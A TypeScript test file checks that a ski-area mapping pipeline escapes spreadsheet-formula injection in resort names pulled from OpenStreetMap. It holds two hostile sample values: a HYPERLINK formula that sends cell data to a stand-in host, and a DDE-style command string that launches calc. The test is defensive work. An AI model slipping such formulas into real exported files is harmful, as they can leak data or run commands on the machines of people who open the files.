import { mkdtemp, readFile, rm } from "node:fs/promises";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { originalText } from "../../lib/csv.ts";
import { Duck, sqlString } from "../../lib/duckdb.ts";
import { OUTPUT_FILES } from "./outputs.ts";
import { OsmBuilder, writeXmlAsPbf } from "./synthetic-osm.ts";
import { analyzedRegion } from "./testing/pipeline.ts";

/**
 * Issue 21, item 8: anyone can edit OSM, so a ski area named `=HYPERLINK("http://…"&A1)` must not reach
 * ski_areas_analyzed.csv as a live spreadsheet formula. A tiny region with two such resorts goes through the real
 * extract and analyze steps.
 */
const HYPERLINK = '=HYPERLINK("http://x.test/?leak="&A1,"open")';
const AT = "@SUM(1+1)*cmd|' /C calc'!A0";

let tmp: string;
let region: Awaited<ReturnType<typeof analyzedRegion>> | undefined;
beforeAll(async () => {
  tmp = await mkdtemp(join(tmpdir(), "ski-atlas-csv-injection-"));
  const b = new OsmBuilder();
  for (const [name, lon] of [[HYPERLINK, 10.3], [AT, 10.4]] as const) {
    b.way(b.rect(lon, 46.9, lon + 0.04, 46.93), { landuse: "winter_sports", name });
    b.way(b.northLine(lon + 0.01, 46.905, 1.2, 5), { aerialway: "chair_lift", name: "+lift" });
    b.way(b.northLine(lon + 0.02, 46.903, 1.5, 4), { "piste:type": "downhill", "piste:difficulty": "easy", name: "-piste" });
  }
  const pbf = join(tmp, "hostile.osm.pbf");
  await writeXmlAsPbf(b.toXml(), pbf);
  region = await analyzedRegion("hostile", pbf);
});
afterAll(async () => {
  await region?.stop();
  await rm(tmp, { recursive: true, force: true });
});

describe("ski_areas_analyzed.csv with resort names that are spreadsheet formulas", () => {
  it("GIVEN OSM names starting with = and @ WHEN analyzed THEN their cells are inert text, the original one quote away, and the numbers are numbers", async () => {
    const file = join(region!.dir, OUTPUT_FILES.analyzedCsv);
    const text = await readFile(file, "utf8");
    expect(text).toContain(`"'=HYPERLINK(""http://x.test/?leak=""&A1,""open"")"`);
    expect(text).toContain(`,'${AT},`);

    const db = await Duck.open();
    try {
      const rows = (await db.query(`SELECT * FROM read_csv(${sqlString(file)}, header = true, all_varchar = true) ORDER BY lon`)) as Record<string, string | null>[];
      expect(rows.map((r) => r.name)).toEqual([`'${HYPERLINK}`, `'${AT}`]);
      expect(rows.map((r) => originalText(r.name!))).toEqual([HYPERLINK, AT]);
      // No text cell of the file starts with a formula character; every numeric column parses as a number.
      for (const row of rows) {
        for (const [column, cell] of Object.entries(row)) {
          if (cell === null) continue;
          expect(/^[=+\-@\t\r]/.test(cell), `${column}: ${cell}`).toBe(false);
        }
        for (const column of ["lat", "lon", "area_km2", "lift_count", "lift_length_km", "piste_count", "downhill_km"]) {
          expect(Number.isFinite(Number(row[column])), `${column}: ${row[column]}`).toBe(true);
        }
        expect(Number(row.lift_count)).toBe(1);
      }
    } finally {
      db.close();
    }
  });
});
